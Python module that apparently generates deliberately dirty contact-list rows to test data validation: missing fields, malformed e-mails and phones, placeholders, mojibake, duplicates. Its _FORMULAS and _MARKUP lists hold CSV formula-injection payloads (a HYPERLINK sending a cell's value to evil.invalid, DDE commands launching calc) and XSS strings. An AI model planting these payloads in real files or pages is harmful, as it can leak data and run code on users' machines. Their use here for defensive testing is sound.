"""What goes wrong in lists: each function spoils one entry in one way; truth knows it by its key in the tables below.

SPOILED damages a row. VARIED writes the same person another way, for the second row of somebody who is in the list already.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from generator import pools, spelling
from generator.entries import Damage, Entry, pick_clean
from generator.places import Phone
from generator.pools import chance

PhoneStyle = Callable[[Phone, Random], str]
Spoil = Callable[[Entry, Random], None]

# Rows no contract should let through; the others are dirty but usable.
REFUSED = frozenset({"shifted", "ragged", "formula", "placeholder", "missing_contact", "missing_name"})

_FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1"]
_MARKUP = [
    "<b>{}</b>",
    '<img src=x onerror="alert(1)">{}',
    "<script>alert('x')</script>{}",
    "{}&nbsp;&amp;&nbsp;",
    '<a href="javascript:alert(1)">{}</a>',
]
_PLACEHOLDERS = [  # first, last, e-mail, telephone, company
    ("asdf", "asdf", "asdf@asdf.test", "1111111111", "asdf"),
    ("test", "test", "test@test.test", "1234567890", "test"),
    ("Select", "Select", "", "", "Select"),
    ("n/a", "n/a", "n/a", "n/a", "n/a"),
    ("", "Max Mustermann", "max@mustermann.example", "0123 456789", "Musterfirma"),
    ("Test", "Lead", "nobody@email.invalid", "000-000-0000", "ACME"),
    ("xxx", "xxx", "xxx@xxx.invalid", "xxx", "xxx"),
]
_BAD_PHONES = ["12345", "000-000-0000", "call me", "n/a", "+1 212 55", "+49 221 47101234567890", "999999999999999", "ask reception"]
_FIRMOGRAPHICS = ("employees", "revenue", "industry", "website", "income")


def _clear(*keys: str) -> Spoil:
    def spoil_keys(entry: Entry, _rng: Random) -> None:
        entry.values.update({key: "" for key in keys if key in entry.values})

    return spoil_keys


def _mailbox_at(domains: list[str]) -> Spoil:
    def move_mailbox(entry: Entry, rng: Random) -> None:
        local = entry.values["email"].partition("@")[0]
        number = entry.person.id[1:] if entry.person else ""  # or two people would open the same one
        entry.values["email"] = f"{local}{number}@{rng.choice(domains)}"

    return move_mailbox


def _damage(kind: Damage) -> Spoil:
    def note(entry: Entry, _rng: Random) -> None:
        entry.damage = kind

    return note


def _bad_phone(entry: Entry, rng: Random) -> None:
    entry.values["phone"] = rng.choice(_BAD_PHONES)


def _bad_email(entry: Entry, rng: Random) -> None:
    local, _, domain = entry.values["email"].partition("@")
    forms = [f"{local}.{domain}", f"{local}@@{domain}", f"{local} @{domain}", f"{local}@", f"{local}@{domain}..", "n/a"]
    entry.values["email"] = rng.choice(forms)


def _role_mailbox(entry: Entry, rng: Random) -> None:
    domain = entry.values["email"].partition("@")[2]
    entry.values["email"] = f"{rng.choice(pools.ROLES[_language(entry)])}@{domain}"


def _placeholder_cell(entry: Entry, rng: Random) -> None:
    entry.values["title"] = rng.choice(["n/a", "Select", "-", "unknown"])


def _formula(entry: Entry, rng: Random) -> None:
    entry.values[rng.choice([key for key in ("first", "company", "title", "city") if key in entry.values])] = rng.choice(_FORMULAS)


def _markup(entry: Entry, rng: Random) -> None:
    key = rng.choice([key for key in ("last", "company", "title") if key in entry.values])
    entry.values[key] = rng.choice(_MARKUP).format(entry.values[key])


def _placeholder(entry: Entry, rng: Random) -> None:
    first, last, email, phone, company = rng.choice(_PLACEHOLDERS)
    entry.values.update(first=first, last=last, email=email, phone=phone)
    if "company" in entry.values:
        entry.values.update(company=company, website="")
    entry.person = entry.company = None


def _mojibake(entry: Entry, _rng: Random) -> None:
    entry.values.update({key: spelling.mojibake(entry.values[key]) for key in ("first", "last", "city")})


def _quoted_newline(entry: Entry, _rng: Random) -> None:
    entry.values["title"] = f"{entry.values['title']}\n(interim)"


def _alias(entry: Entry, rng: Random) -> None:
    if entry.company:
        entry.values["company"] = spelling.company_alias(entry.company.base, entry.company.form, entry.company.former, rng)


SPOILED: dict[str, Spoil] = {
    "missing_email": _clear("email"),
    "missing_phone": _clear("phone"),
    "missing_contact": _clear("email", "phone"),
    "missing_name": _clear("first", "last"),
    "missing_company": _clear("company"),
    "missing_title": _clear("title"),
    "missing_firmographics": _clear(*_FIRMOGRAPHICS),
    "bad_phone": _bad_phone,
    "bad_email": _bad_email,
    "disposable_domain": _mailbox_at(pools.DISPOSABLE_DOMAINS),
    "free_mailbox": _mailbox_at(pools.FREE_DOMAINS),
    "role_mailbox": _role_mailbox,
    "placeholder_cell": _placeholder_cell,
    "formula": _formula,
    "markup": _markup,
    "placeholder": _placeholder,
    "shifted": _damage("shifted"),
    "ragged": _damage("ragged"),
    "numeric_phone": _damage("numeric_phone"),
    "mojibake": _mojibake,
    "quoted_newline": _quoted_newline,
    "company_alias": _alias,
}


def _typo(entry: Entry, rng: Random) -> None:
    entry.values["last"] = spelling.misspell(entry.values["last"], rng)


def _nickname(entry: Entry, rng: Random) -> None:
    entry.values["first"] = pools.NICKNAMES.get(entry.values["first"]) or spelling.misspell(entry.values["first"], rng)


def _swap(entry: Entry, _rng: Random) -> None:
    entry.values["first"], entry.values["last"] = entry.values["last"], entry.values["first"]


def _initial(entry: Entry, _rng: Random) -> None:
    entry.values["first"] = f"{entry.values['first'][0]}."


def _transliterate(entry: Entry, _rng: Random) -> None:
    entry.values.update({key: spelling.transliterate(entry.values[key]) for key in ("first", "last", "city")})


def _title(entry: Entry, rng: Random) -> None:
    entry.values["title"] = rng.choice(rng.choice(pools.TITLES[_language(entry)]))


VARIED: dict[str, Spoil] = {
    "typo": _typo,
    "nickname": _nickname,
    "swapped_names": _swap,
    "initial": _initial,
    "transliterated": _transliterate,
    "changed_title": _title,
    "company_alias": _alias,
}
_AT_WORK = ("changed_title", "company_alias")


def spoil(entries: list[Entry], per_thousand: dict[str, int], rng: Random) -> None:
    """Spoil so many of every thousand entries, each in one way at most; at least one of every kind."""
    for code, rate in per_thousand.items():
        wanted = max(1, len(entries) * rate // 1000)
        for entry in pick_clean(entries, wanted * 5, rng):
            if _apply(SPOILED[code], code, entry, rng):
                wanted -= 1
            if not wanted:
                break


def repeat(entries: list[Entry], exact: int, varied: int, write_phone: PhoneStyle, rng: Random) -> list[Entry]:
    """Make further rows of people already there: some word for word, some in another spelling."""
    same = [entry.copy().mark("same_row") for entry in pick_clean(entries, exact, rng)]
    return same + [vary(entry, "same_person", write_phone, rng) for entry in pick_clean(entries, varied, rng)]


def vary(entry: Entry, code: str, write_phone: PhoneStyle, rng: Random) -> Entry:
    """Write the same person another way: one or two varied spellings, now and then mailbox or telephone gone, never both."""
    other = entry.copy().mark(code)
    usable = [name for name in VARIED if name not in _AT_WORK or "company" in other.values]
    for name in rng.sample(usable, rng.choice([1, 1, 2])):
        _apply(VARIED[name], name, other, rng)
    values, phone = other.values, other.person.phone if other.person else None
    if phone and values["phone"]:
        values["phone"] = write_phone(phone, rng)
        if values["email"] and chance(rng, 0.3):
            values[rng.choice(["email", "phone"])] = ""
    return other


def _apply(change: Spoil, code: str, entry: Entry, rng: Random) -> bool:
    """Change the entry and mark it, unless nothing came of it: no umlaut to spell out."""
    before = dict(entry.values)
    change(entry, rng)
    changed = bool(entry.damage) or entry.values != before
    if changed:
        entry.mark(code)
    return changed


def damage(cells: list[str], kind: Damage, rng: Random) -> list[str]:
    """Spoil finished cells: moved by one to the left or right from somewhere on, or too few or too many of them."""
    at = rng.randrange(1, 5)
    if kind == "shifted":
        return rng.choice([[*cells[:at], "", *cells[at:-1]], [*cells[:at], *cells[at + 1 :], ""]])
    if kind == "ragged":
        return rng.choice([cells[:-at], [*cells, *["extra"] * at]])
    return cells


def _language(entry: Entry) -> str:
    return entry.company.language if entry.company else "en"
